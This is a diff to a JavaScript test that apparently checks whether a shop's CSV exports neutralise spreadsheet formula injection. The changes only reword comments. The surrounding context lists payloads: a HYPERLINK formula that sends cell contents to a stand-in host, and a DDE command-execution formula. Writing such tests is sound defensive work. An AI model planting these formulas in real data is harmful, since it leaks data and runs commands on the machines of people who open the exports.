@@ -16,7 +16,7 @@ const formulas = [
   ...[`=HYPERLINK("https://elsewhere.example/?"&A1,"${mark}")`, `=cmd|'/C calc'!A1+${mark}`],
 ]
 
-/** Whatever may be typed begins as a formula would, and a program for spreadsheets opens each export in CSV: no cell of it reckons. */
+/** Every free text starts like a formula and a spreadsheet program opens each CSV export: no cell is computed. */
 export async function openExports({ databaseUrl }) {
   const programs = unpackPrograms('gnumeric')
   const folder = mkdtempSync(path.join(tmpdir(), 'thulir-exports-'))
@@ -56,14 +56,14 @@ function tables() {
   ]
 }
 
-/** Into every text of products and their packs that may be anything, and into addresses of the newsletter; gives how many columns took one. */
+/** Writes formulas to every free text of products and their options, and to newsletter addresses; returns how many columns accepted one. */
 async function writeFormulas(databaseUrl) {
   const client = await connect(databaseUrl)
   const took = new Set()
   const write = (place, text, values) =>
     client.query(text, values).then(
       () => took.add(place),
-      () => {}, // A column that takes no such text needs no safeguard.
+      () => {}, // A column that rejects such text needs no protection.
     )
   for (const [table, key] of [
     ['product', 'id'],
@@ -109,7 +109,7 @@ async function openOffice(origin, databaseUrl) {
   return { takeExport }
 }
 
-/** Gnumeric says of each cell what it is; one that is reckoned alone has no type of its own. */
+/** Gnumeric stores the type of each cell; only a computed cell has no type. */
 async function openInSpreadsheet({ folder, find, env }, file) {
   const part = (place) => path.join(folder, place, readdirSync(path.join(folder, place))[0])
   const opened = `${file}.gnumeric`
